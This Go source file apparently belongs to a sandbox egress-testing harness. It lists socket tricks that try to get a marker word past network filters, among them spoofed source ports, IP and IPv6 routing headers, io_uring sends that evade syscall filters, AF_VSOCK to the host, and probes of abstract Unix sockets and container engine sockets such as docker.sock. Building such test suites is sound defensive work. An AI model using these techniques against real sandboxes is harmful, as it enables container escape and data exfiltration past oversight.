package attack

import (
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"runtime"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

// socketAttacks use TCP and UDP in ways that few programs do.
func socketAttacks() []Attack {
	const family = "sockets"
	one := func(id, tries, source string, do func(*Agent) error) Attack {
		return Attack{ID: id, Family: family, Tries: tries, Source: source, Do: do}
	}
	const mptcp = 262
	bindPort := func(port int) func(fd int) error {
		return func(fd int) error {
			return all(unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_REUSEADDR, 1), unix.Bind(fd, &unix.SockaddrInet4{Port: port}))
		}
	}
	device := func(fd int) error { return unix.SetsockoptString(fd, unix.SOL_SOCKET, unix.SO_BINDTODEVICE, "eth0") }
	return []Attack{
		one("mptcp", "Multipath TCP", "", func(a *Agent) error { return a.socket(a.evil4(443), unix.SOCK_STREAM, mptcp, nil) }),
		one("tcp-fast-open", "data in the first packet of a connection", "", func(a *Agent) error {
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			return unix.Sendto(fd, []byte(a.word), unix.MSG_FASTOPEN, &unix.SockaddrInet4{Port: 443, Addr: a.v4.As4()})
		}),
		one("udp-source-53", "datagrams from port 53, as if they were answers", "",
			func(a *Agent) error { return a.socket(a.evil4(9999), unix.SOCK_DGRAM, 0, bindPort(53)) }),
		one("tcp-source-53", "a connection from port 53", "",
			func(a *Agent) error { return a.socket(a.evil4(9999), unix.SOCK_STREAM, 0, bindPort(53)) }),
		one("tcp-source-443", "a connection from port 443, as if it were an answer", "",
			func(a *Agent) error { return a.socket(a.evil4(9999), unix.SOCK_STREAM, 0, bindPort(443)) }),
		one("bound-to-device", "a socket that is bound to the interface", "",
			func(a *Agent) error { return a.socket(a.evil4(443), unix.SOCK_DGRAM, 0, device) }),
		one("loopback-out", "loopback addresses through the interface", "", func(a *Agent) error {
			return all(a.socket("127.0.0.1:"+itoa(a.port), unix.SOCK_DGRAM, 0, device), a.socket("127.1.2.3:53", unix.SOCK_DGRAM, 0, device))
		}).leak(func(e Event) bool { return e.Kind == PacketEvent && e.Dst.IsLoopback() }),
		one("loopback6-out", "::1 through the interface", "", func(a *Agent) error {
			return a.socket("[::1]:"+itoa(a.port), unix.SOCK_DGRAM, 0, device)
		}).leak(func(e Event) bool { return e.Kind == PacketEvent && e.Dst.IsLoopback() }),
		one("dont-route", "datagrams that ask to go past the routes", "", func(a *Agent) error {
			return a.socket(at(neighbour, int(a.port)), unix.SOCK_DGRAM, 0,
				func(fd int) error { return unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_DONTROUTE, 1) })
		}),
		one("free-bind", "somebody else's address as one's own (IP_FREEBIND)", "", func(a *Agent) error {
			return a.socket(a.evil4(443), unix.SOCK_DGRAM, 0, func(fd int) error {
				return all(unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_FREEBIND, 1),
					unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{192, 0, 2, 99}}))
			})
		}).vacuous("the kernel sends nothing from there without a right"),
		one("source-route", "a route through an allowed address to another (IP option)", "", func(a *Agent) error {
			hop := a.v4.As4()
			return a.socket(at(staticAddr, 8080), unix.SOCK_STREAM, 0, func(fd int) error {
				return unix.SetsockoptString(fd, unix.IPPROTO_IP, unix.IP_OPTIONS, string(append([]byte{0x83, 7, 4}, hop[:]...))+"\x00")
			})
		}).leak(func(e Event) bool { return e.Kind == PacketEvent && e.Options && e.Dst.Is4() }).needs("NET_RAW"),
		one("routing-header", "an IPv6 routing header that leads on from an allowed address", "", func(a *Agent) error {
			return a.socket(a.evil6(8080), unix.SOCK_DGRAM, 0, routedOver(staticAddr6))
		}).leak(func(e Event) bool {
			return e.Kind == PacketEvent && e.Options && e.Proto == unix.IPPROTO_UDP && e.Dst.Is6()
		}),
		one("routing-header-back", "an IPv6 routing header that leads to another address first", "", func(a *Agent) error {
			return a.socket(at(staticAddr6, 8080), unix.SOCK_DGRAM, 0, routedOver(a.v6.String()))
		}),
		one("ip-options", "data in the IP options of an allowed connection", "", func(a *Agent) error {
			return a.socket(at(staticAddr, 8080), unix.SOCK_STREAM, 0, func(fd int) error {
				return unix.SetsockoptString(fd, unix.IPPROTO_IP, unix.IP_OPTIONS, "\x07\x07\x08lea\x01")
			})
		}).leak(func(e Event) bool { return e.Kind == PacketEvent && e.Options && e.Dst.Is4() }),
		one("connected-elsewhere", "a datagram to another address from a connected socket", "", func(a *Agent) error {
			return a.socket(a.evil4(443), unix.SOCK_DGRAM, 0, func(fd int) error {
				return unix.Connect(fd, &unix.SockaddrInet4{Port: 8080, Addr: netip.MustParseAddr(staticAddr).As4()})
			})
		}),
		one("reconnected", "a socket that was let through once and connects elsewhere", "", func(a *Agent) error {
			return a.socket(a.evil4(4000), unix.SOCK_DGRAM, 0, func(fd int) error {
				sa, _, err := sockaddr(at(udpAddr, 4000))
				return all(err, learn("udp.test"), unix.Sendto(fd, []byte("x"), 0, sa))
			})
		}),
		one("sendmsg", "sendmsg, which some agents do not record", "CVE-2026-25598", func(a *Agent) error {
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			return unix.Sendmsg(fd, []byte(a.word), nil, &unix.SockaddrInet4{Port: 443, Addr: a.v4.As4()}, 0)
		}),
		one("packet-info", "an interface and a source by control message (IP_PKTINFO)", "", func(a *Agent) error {
			link, err := net.InterfaceByName("eth0")
			if err != nil {
				return err
			}
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			info := unix.PktInfo4(&unix.Inet4Pktinfo{Ifindex: int32(link.Index)})
			return all(unix.Sendmsg(fd, []byte(a.word), info, &unix.SockaddrInet4{Port: 443, Addr: a.v4.As4()}, 0),
				unix.Sendmsg(fd, []byte(a.word), info, &unix.SockaddrInet4{Port: 53, Addr: [4]byte{127, 0, 0, 1}}, 0))
		}),
		one("udp-segmentation", "many datagrams in one call (UDP_SEGMENT)", "", func(a *Agent) error {
			return a.socketIn(unix.AF_INET, unix.SOCK_DGRAM, 0, &unix.SockaddrInet4{Port: 443, Addr: a.v4.As4()},
				[]byte(strings.Repeat(a.word, 40)), func(fd int) error {
					return unix.SetsockoptInt(fd, unix.IPPROTO_UDP, unix.UDP_SEGMENT, 64)
				})
		}),
		one("io-uring", "a datagram by io_uring, past filters of system calls", "", ioUring),
		one("vsock", "the machine beneath, by AF_VSOCK", "", func(a *Agent) error {
			return a.socketIn(unix.AF_VSOCK, unix.SOCK_STREAM, 0,
				&unix.SockaddrVM{CID: unix.VMADDR_CID_HOST, Port: uint32(a.port)}, []byte(a.word), nil)
		}).vacuous("no packet filter and no wire sees these sockets; an engine's own profile refuses them"),
		one("abstract-socket", "abstract Unix sockets of the host's programs", "CVE-2020-15257", func(*Agent) error {
			list, err := os.ReadFile("/proc/net/unix")
			if err != nil {
				return err
			}
			var failed []error
			for line := range strings.Lines(string(list)) {
				if i := strings.Index(line, " @"); i >= 0 {
					name := "@" + strings.TrimSpace(line[i+2:])
					if conn, err := net.Dial("unix", name); err == nil {
						conn.Close()
						failed = append(failed, fmt.Errorf("reached %s", name))
					}
				}
			}
			return all(failed...)
		}).vacuous("such sockets belong to a network namespace, and the sandbox has its own"),
		one("engine-socket", "the container engine's socket", "", func(a *Agent) error {
			var failed []error
			for _, path := range []string{"/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock",
				"/run/crio/crio.sock"} {
				conn, err := net.Dial("unix", path)
				if err == nil {
					conn.Close()
				}
				failed = append(failed, err)
			}
			return all(all(failed...), a.tell())
		}),
		one("x-display", "a display or a sound server of the host, by TCP", "",
			func(a *Agent) error { return a.tcp(at(gatewayAddr, 6000), at(gatewayAddr, 4713)) }).leak(to(gatewayAddr)),
	}
}

// routedOver has a socket's packets go to hop first (RFC 8754 section 2).
func routedOver(hop string) func(fd int) error {
	segment := netip.MustParseAddr(hop).As16()
	return func(fd int) error {
		return unix.SetsockoptString(fd, unix.IPPROTO_IPV6, unix.IPV6_RTHDR, string(append([]byte{0, 2, 4, 0, 0, 0, 0, 0}, segment[:]...)))
	}
}

// ioUring sends one datagram by a ring: a socket made as always, the sending
// left to the kernel's own thread.
func ioUring(a *Agent) error {
	const (
		entries   = 1
		opSendMsg = 9
		enterWait = 1
		offSQ     = 0
		offSQEs   = 0x10000000
	)
	// struct io_uring_params, linux/io_uring.h
	var params [30]uint32
	ring, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, entries, uintptr(unsafe.Pointer(&params)), 0)
	if errno != 0 {
		return fmt.Errorf("io_uring_setup: %w", errno)
	}
	defer unix.Close(int(ring))
	sq, err := unix.Mmap(int(ring), offSQ, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE)
	if err != nil {
		return err
	}
	defer unix.Munmap(sq)
	sqes, err := unix.Mmap(int(ring), offSQEs, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE)
	if err != nil {
		return err
	}
	defer unix.Munmap(sqes)
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	name := unix.RawSockaddrInet4{Family: unix.AF_INET, Port: 443<<8&0xff00 | 443>>8, Addr: a.v4.As4()}
	word := []byte(a.word)
	vector := unix.Iovec{Base: &word[0]}
	vector.SetLen(len(word))
	message := unix.Msghdr{Name: (*byte)(unsafe.Pointer(&name)), Namelen: unix.SizeofSockaddrInet4, Iov: &vector, Iovlen: 1}
	// struct io_uring_sqe: opcode at 0, descriptor at 4, address at 16, length at 24
	sqes[0] = opSendMsg
	*(*int32)(unsafe.Pointer(&sqes[4])) = int32(fd)
	*(*uint64)(unsafe.Pointer(&sqes[16])) = uint64(uintptr(unsafe.Pointer(&message)))
	*(*uint32)(unsafe.Pointer(&sqes[24])) = 1
	// struct io_sqring_offsets begins at byte 40: head, tail, mask, entries, flags, dropped, array
	tail, array := params[11], params[16]
	*(*uint32)(unsafe.Pointer(&sq[array])) = 0
	*(*uint32)(unsafe.Pointer(&sq[tail]))++
	n, _, errno := unix.Syscall6(unix.SYS_IO_URING_ENTER, ring, 1, 1, enterWait, 0, 0)
	runtime.KeepAlive(&message)
	runtime.KeepAlive(&name)
	runtime.KeepAlive(&vector)
	runtime.KeepAlive(word)
	if errno != 0 || n != 1 {
		return errors.Join(errors.New("io_uring_enter"), errno)
	}
	return nil
}
